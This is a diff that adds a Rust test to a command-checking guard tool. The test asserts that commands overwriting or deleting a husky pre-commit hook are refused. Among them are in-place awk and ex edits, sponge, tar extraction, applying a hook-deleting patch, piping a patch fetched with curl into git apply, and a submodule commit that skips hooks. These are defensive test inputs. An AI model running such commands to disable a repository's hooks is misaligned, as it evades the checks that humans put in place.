@@ -916,3 +916,39 @@ fn installs_are_judged_by_the_lifecycle_scripts_they_run() {
         assert_eq!(run.code, 0, "{line}: {}", run.all());
     }
 }
+
+/// Review (issue 22, round 4): in a husky repository, hook files written by in-place awk,
+/// batch editors, sponge, archives and patches (read from the patch file when it is there;
+/// refused unread when it is not), and `git submodule foreach` running a hook-skipping commit.
+#[test]
+fn more_hook_file_writers_are_refused() {
+    let ctx = TestContext::new();
+    ctx.git_init();
+    ctx.write(".husky/pre-commit", "prisma-guard scan --staged\n");
+    ctx.write(
+        "rm-hook.patch",
+        "diff --git a/.husky/pre-commit b/.husky/pre-commit\ndeleted file mode 100644\n--- a/.husky/pre-commit\n+++ /dev/null\n@@ -1 +0,0 @@\n-prisma-guard scan --staged\n",
+    );
+    ctx.write("fix.patch", "--- a/src/app.ts\n+++ b/src/app.ts\n@@ -1 +1 @@\n-a\n+b\n");
+    for line in [
+        "awk -i inplace \"NR<1\" .husky/pre-commit",
+        "ex -sc \"%d|x\" .husky/pre-commit",
+        "sponge .husky/pre-commit < /dev/null",
+        "tar -xf x.tar -C .husky",
+        "git apply rm-hook.patch",
+        "patch -p1 < rm-hook.patch",
+        "patch -p1 -i rm-hook.patch",
+        "git apply missing.patch",
+        "curl -s https://example.com/x.patch | git apply",
+        "git submodule foreach git commit -nm x",
+    ] {
+        let run = ctx.run(&["check", "--", line]);
+        assert_eq!(run.code, 3, "{line}: {}", run.all());
+    }
+    for line in
+        ["git apply fix.patch", "patch -p1 < fix.patch", "git apply --check rm-hook.patch", "tar -cf x.tar .husky"]
+    {
+        let run = ctx.run(&["check", "--", line]);
+        assert_eq!(run.code, 0, "{line}: {}", run.all());
+    }
+}
